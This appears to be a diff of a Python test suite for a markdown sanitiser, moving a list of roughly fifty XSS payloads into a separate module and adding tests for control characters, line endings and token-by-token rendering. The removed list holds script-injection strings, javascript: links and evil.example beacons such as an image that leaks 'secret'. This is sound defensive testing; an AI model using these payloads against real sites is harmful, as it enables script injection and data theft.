@@ -9,59 +9,7 @@ from hypothesis import strategies as st
 
 from onglet.browser import safe
 from onglet_build.places import WEB
-
-PAYLOADS = """
-<script>alert(1)</script>
-<img src=x onerror=alert(1)>
-<svg/onload=alert(1)>
-<iframe src="https://evil.example"></iframe>
-<a href="javascript:alert(1)">x</a>
-<style>*{background:url(https://evil.example)}</style>
-<math><mtext></p><img src onerror=alert(1)>
-<base href="https://evil.example/">
-<form action=https://evil.example><input name=q></form>
-<meta http-equiv=refresh content="0;url=https://evil.example">
-<object data="data:text/html,<script>alert(1)</script>"></object>
-<template><script>alert(1)</script></template>
-<!-- <script>alert(1)</script> -->
-[x](javascript:alert(1))
-[x](JaVaScRiPt:alert(1))
-[x](java&#115;cript:alert(1))
-[x](&#x6A;avascript:alert(1))
-[x](data:text/html;base64,PHNjcmlwdD4=)
-[x](vbscript:msgbox(1))
-[x](file:///etc/passwd)
-[x](blob:https://evil.example/1)
-[x](//evil.example/x)
-[x](/a/b?leak=1)
-[x](#fragment)
-[x](https://evil.example/" onmouseover="alert(1))
-[x](<https://evil.example/"onclick=alert(1)>)
-[x](https://evil.example 'title" onclick="alert(1)')
-![x](https://evil.example/leak.png?text=secret)
-![x](data:image/svg+xml;base64,PHN2Zz4=)
-![x](javascript:alert(1))
-[![x](https://evil.example/1.png)](https://evil.example/2)
-![![x](https://evil.example/1.png)](https://evil.example/2.png)
-<https://evil.example/a?b=c>
-<javascript:alert(1)>
-[ref]\n\n[ref]: javascript:alert(1)
-[ref]\n\n[ref]: https://evil.example/ref "t"
-```html onload=alert(1)\n<script>alert(1)</script>\n```
-```"><script>alert(1)</script>\ncode\n```
-    <script>alert(1)</script>
-`<script>alert(1)</script>`
-| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |
-- <script>\n- alert(1)\n- </script>
-> <iframe src=https://evil.example>
-# <img src=x onerror=alert(1)>
-&lt;script&gt;alert(1)&lt;/script&gt;
-&#60;script&#62;alert(1)
-\\<script>alert(1)</script>
-**<b onclick=alert(1)>**
-\u202e<script>\u0000alert(1)</script>
-""".strip().splitlines()
-PAYLOADS = [payload.replace("\\n", "\n") for payload in PAYLOADS]
+from tests.hostile_output import OPEN_ENDED, PIECES, SHORT
 
 
 class Watcher(HTMLParser):
@@ -80,6 +28,10 @@ class Watcher(HTMLParser):
     handle_decl = handle_pi = unknown_decl = handle_comment
 
 
+def ascii_of(payload: str) -> str:
+    return payload[:30].encode("unicode_escape").decode()
+
+
 def watch(html: str) -> None:
     watcher = Watcher()
     watcher.feed(html)
@@ -87,10 +39,11 @@ def watch(html: str) -> None:
 
 
 def growing(text: str):
-    """The blocks after each character, as the page would hold them."""
+    """The blocks after each token of a character or a few, as the page would hold them."""
     flow, held = safe.Flow(), []
-    for character in text:
-        flow.add(character)
+    step = 1 + len(text) // 200
+    for start in range(0, len(text), step):
+        flow.add(text[start : start + step])
         update = flow.update()
         held[update.start :] = update.blocks
         yield held
@@ -98,19 +51,21 @@ def growing(text: str):
     yield held
 
 
-@pytest.mark.parametrize("payload", PAYLOADS)
+@pytest.mark.parametrize("payload", PIECES, ids=ascii_of)
 def test_a_payload_is_harmless(payload):
-    watch(safe.markdown(payload))
+    html = safe.markdown(payload)
+    watch(html)
+    assert not re.search("[\u202a-\u202e\u2066-\u2069\x1b\x07\x9b]", html)
 
 
-@pytest.mark.parametrize("payload", PAYLOADS)
+@pytest.mark.parametrize("payload", [*SHORT, *OPEN_ENDED], ids=ascii_of)
 def test_a_payload_is_harmless_token_by_token(payload):
     for blocks in growing(payload):
         for block in blocks:
             watch(block)
 
 
-@pytest.mark.parametrize("payload", PAYLOADS)
+@pytest.mark.parametrize("payload", SHORT, ids=ascii_of)
 def test_a_payload_inside_others_is_harmless(payload):
     for frame in (
         "> - {}",
@@ -123,7 +78,7 @@ def test_a_payload_inside_others_is_harmless(payload):
 
 
 @settings(deadline=None)
-@given(st.lists(st.sampled_from([*PAYLOADS, "\n", "\n\n", " ", "**", "`", "```", "- ", "> "])))
+@given(st.lists(st.sampled_from([*SHORT, "\n", "\n\n", " ", "**", "`", "```", "- ", "> "])))
 def test_any_mixture_is_harmless(pieces):
     watch(safe.markdown("".join(pieces)))
 
@@ -145,6 +100,30 @@ def test_a_link_shows_its_address_even_if_its_text_looks_like_one():
 def test_a_bare_address_is_not_said_twice():
     assert "address" not in safe.markdown("<https://ok.example/a>")
     assert "address" not in safe.markdown("<someone@ok.example>")
+
+
+def test_there_are_at_least_150_pieces():
+    assert len(set(PIECES)) >= 150
+
+
+def test_a_line_break_stays_one():
+    poem = "Roses are red\nviolets are blue\n\nand so on"
+    assert safe.blocks(poem)[0].count("<br") == 1
+    assert "blue</p>" in safe.blocks(poem)[0]
+
+
+@pytest.mark.parametrize("end", ["\r\n", "\r", "\u2028", "\u2029"])
+def test_every_line_end_is_one_however_the_text_is_cut(end):
+    whole = safe.blocks("a\nb\n\nc")
+    *_, last = growing(f"a{end}b{end}{end}c")
+    assert last == whole
+
+
+def test_what_is_not_to_be_seen_is_not_there():
+    assert safe.markdown("a\u202eb\u200bc\u2066d\ufeffe\U000e0041f") == "<p>abcdef</p>\n"
+    assert safe.markdown("\x1b[31mred\x07") == "<p>\ufffd[31mred\ufffd</p>\n"
+    joined = "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645 \U0001f469\u200d\U0001f680"
+    assert joined in safe.markdown(joined), "Persian words and joined emoji stay whole"
 
 
 def test_ordinary_markdown_is_drawn():
@@ -169,6 +148,9 @@ TEXTS = st.lists(
             "a | b\n",
             "|-|-|\n",
             "---\n",
+            "\r",
+            "\x0b",
+            "\u2028",
         ]
     ),
     max_size=30,
